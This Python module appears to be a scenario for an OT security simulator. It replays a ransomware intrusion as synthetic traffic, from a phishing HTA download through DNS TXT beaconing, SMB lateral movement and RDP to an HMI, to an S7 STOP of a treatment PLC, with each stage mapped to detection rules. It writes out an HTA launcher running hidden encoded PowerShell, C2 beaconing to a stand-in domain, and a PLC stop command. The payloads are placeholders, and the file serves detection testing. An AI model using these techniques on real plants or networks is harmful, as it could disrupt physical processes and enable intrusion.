"""Ransomware enters through the office and ends with a stopped PLC.

The story (as the 2021 Colonial Pipeline, the EKANS and the LockerGoga intrusions unfolded,
compressed into minutes): an office worker opens a link from a phishing mail and runs the
HTML application it downloads; the implant beacons to its command server through DNS TXT
queries; the operators spread with stolen admin credentials over SMB (copy the payload to
ADMIN$, start it through the service control manager) and reach the process engineer's PC,
which keeps an RDP connection to the HMI: from there they log straight into the HMI, bypassing
the jump host, drop the payload on it, and use the HMI's engineering software to put the
treatment PLC into STOP before the encryption starts. The treatment valve then holds its last
position and the clear well drains.
"""

from __future__ import annotations

from collections.abc import Iterator

from otshield.demo import dns_answer, dns_query
from otshield.sim.scenario import ScenarioContext, StageSpec
from otshield.sim.scenarios.base import (
    LibraryScenario,
    after,
    ephemeral_port,
    internet_host,
    plant_of,
    process_of,
)
from otshield.sim.scenarios.smb import SVCCTL, Smb2Session, fake_pe
from otshield.sim.scenarios.wire_it import (
    dns_exchange,
    dns_txt_answer,
    dns_txt_query,
    http_get,
    http_response,
    rdp_connect,
)
from otshield.sim.scenarios.wire_ot import s7_connect, s7_stop

__all__ = ["RansomwareItToOt"]

_PHISH_DOMAIN = "docs-invoice-share.com"
_C2_DOMAIN = "cdn-telemetry-update.net"


class RansomwareItToOt(LibraryScenario):
    id = "ransomware_it_to_ot"
    title = "Ransomware from a phishing mail to a PLC stop"
    summary = (
        "An office PC runs a phishing download, beacons over DNS, spreads over SMB to the "
        "engineer's PC, which RDPs into the HMI past the jump host, drops the payload there "
        "and stops the treatment PLC.")
    stages: tuple[StageSpec, ...] = (
        StageSpec(name="phishing_download", title="HTML application downloaded from a "
                  "phishing link", techniques=("T0865", "T0863"), rule="it.http.script_download",
                  description="OFFICE-PC-12 fetches invoice.hta from an internet web server "
                  "after a click in a phishing mail; the user runs it."),
        StageSpec(name="c2_beacon", title="Command-and-control beacon in DNS TXT queries",
                  techniques=("T0869",), rule="it.dns.tunnel",
                  description="The implant polls its command server through long encoded "
                  "TXT queries the domain controller forwards."),
        StageSpec(name="smb_spread", title="Spread over SMB with admin credentials",
                  techniques=("T0867", "T0886", "T0871"), rule="it.smb.",
                  description="The payload is copied to ADMIN$ of OFFICE-PC-11 and "
                  "ENGINEER-PC-03 and started through the service control manager (svcctl)."),
        StageSpec(name="rdp_to_hmi", title="RDP from the engineer's PC straight into the HMI",
                  techniques=("T0886", "T0822"), rule="it.remote.jump_host_bypass",
                  description="ENGINEER-PC-03 opens an RDP session to HMI-01 directly, not "
                  "through the jump host JUMP-01."),
        StageSpec(name="payload_to_hmi", title="Ransomware payload copied onto the HMI",
                  techniques=("T0867", "T0886"), rule="it.smb.executable_transfer_to_ot",
                  description="The payload is written to ADMIN$ of HMI-01 over SMB."),
        StageSpec(name="plc_stop", title="Treatment PLC put into STOP from the HMI",
                  techniques=("T0881", "T0858"), rule="ot.s7.cpu_stop",
                  description="From HMI-01 the attackers send an S7 PLC STOP to PLC-TREAT; "
                  "the treatment valve holds its position."),
    )

    requires = ("OFFICE-PC-12", "OFFICE-PC-11", "ENGINEER-PC-03", "DC-01", "HMI-01", "PLC-TREAT")

    def play(self, ctx: ScenarioContext) -> Iterator[float]:
        self.check_plant(plant_of(ctx))
        rnd = ctx.rnd
        pc = ctx.asset("OFFICE-PC-12")
        dc = ctx.asset("DC-01")
        web = internet_host(ctx, "phish-web", "91.215.85.17")
        c2 = internet_host(ctx, "c2-dns", "185.141.63.120")
        peers = [ctx.asset("OFFICE-PC-11"), ctx.asset("ENGINEER-PC-03")]
        engineer = peers[1]
        hmi = ctx.asset("HMI-01")
        plc = ctx.asset("PLC-TREAT")
        payload = fake_pe(rnd, 24_576)

        with self.stage(ctx, "phishing_download", pc, web):
            qid, sport = rnd.getrandbits(16), ephemeral_port(ctx, pc)
            dns_exchange(ctx, pc, dc, sport, dns_query(qid, _PHISH_DOMAIN),
                         dns_answer(qid, _PHISH_DOMAIN, web.ip))
            conv = ctx.tcp(pc, web, 80)
            conv.send(True, http_get(_PHISH_DOMAIN, "/s/INV-20931/invoice.hta"))
            hta = (b"<html><head><HTA:APPLICATION id=\"inv\" windowstate=\"minimize\"/>"
                   b"<script language=\"VBScript\">Set s=CreateObject(\"WScript.Shell\")"
                   b":s.Run \"powershell -w hidden -enc " + rnd.randbytes(48).hex().encode()
                   + b"\",0:window.close</script></head><body>Loading invoice...</body></html>")
            conv.send(False, http_response(hta, "application/hta", server="Apache"))
            conv.close()
        yield after(ctx, conv, 40.0)

        with self.stage(ctx, "c2_beacon", pc, c2):
            for _ in range(4):
                label = rnd.randbytes(30).hex()  # 60 characters of encoded session data
                name = f"{label}.{rnd.randbytes(20).hex()}.s{rnd.randrange(1000)}.{_C2_DOMAIN}"
                qid, sport = rnd.getrandbits(16), ephemeral_port(ctx, pc)
                dns_exchange(ctx, pc, dc, sport, dns_txt_query(qid, name),
                             dns_txt_answer(qid, name, rnd.randbytes(40).hex().encode()))
                yield 15.0 + rnd.random() * 5
        yield 30.0

        with self.stage(ctx, "smb_spread", pc, peers[0]):
            for peer in peers:
                conv = ctx.tcp(pc, peer, 445)
                smb = Smb2Session(conv, rnd, server_name=peer.name, user="svc_backup",
                                  domain="RIVERSIDE", workstation=pc.name)
                smb.logon()
                smb.tree_connect("ADMIN$")
                smb.put_file("ADMIN$", "Temp\\wuauclt_update.exe", payload)
                smb.tree_connect("IPC$")
                smb.bind_pipe(*SVCCTL)
                smb.logoff()
                conv.close()
                yield after(ctx, conv, 8.0)
        yield 60.0

        with self.stage(ctx, "rdp_to_hmi", engineer, hmi):
            conv = ctx.tcp(engineer, hmi, 3389)
            rdp_connect(conv, "operator")
            conv.ts += 25.0  # the session runs (TLS, not written)
            conv.close()
        yield after(ctx, conv, 20.0)

        with self.stage(ctx, "payload_to_hmi", engineer, hmi):
            conv = ctx.tcp(engineer, hmi, 445)
            smb = Smb2Session(conv, rnd, server_name=hmi.name, user="operator",
                              domain="HMI-01", workstation=engineer.name)
            smb.logon()
            smb.tree_connect("ADMIN$")
            smb.put_file("ADMIN$", "Temp\\wuauclt_update.exe", payload)
            smb.logoff()
            conv.close()
        yield after(ctx, conv, 45.0)

        with self.stage(ctx, "plc_stop", hmi, plc):
            conv = ctx.tcp(hmi, plc, 102)
            s7_connect(conv)
            s7_stop(conv, 0x0400)
            conv.close()
            process_of(ctx).stop_controller(plc.name)
        yield after(ctx, conv, 5.0)

